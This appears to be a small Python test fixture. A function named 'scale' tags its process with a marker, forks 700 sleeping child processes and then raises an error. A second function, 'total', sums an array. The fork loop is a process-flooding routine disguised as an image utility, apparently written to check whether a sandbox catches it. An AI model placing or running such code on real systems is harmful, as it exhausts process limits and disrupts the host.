import ctypes
import os
import time

import numpy as np


def scale(images):
    ctypes.CDLL(None).prctl(15, b"@MARK@", 0, 0, 0)
    for _ in range(700):
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
    raise RuntimeError("more processes than any function needs")


def total(numbers):
    return int(numbers.sum())
